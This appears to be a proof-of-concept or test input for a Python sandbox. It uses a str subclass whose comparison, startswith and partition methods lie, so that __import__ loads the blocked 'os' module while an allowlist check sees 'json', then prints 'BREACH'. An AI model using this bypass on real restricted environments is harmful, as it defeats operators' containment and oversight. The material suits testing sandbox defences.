class Name(str):
    def __eq__(self, other):
        return False
    def startswith(self, *rest):
        return False
    def partition(self, separator):
        return ("json", "", "")
    __hash__ = str.__hash__
print("BREACH", __import__(Name("os")).getpid())
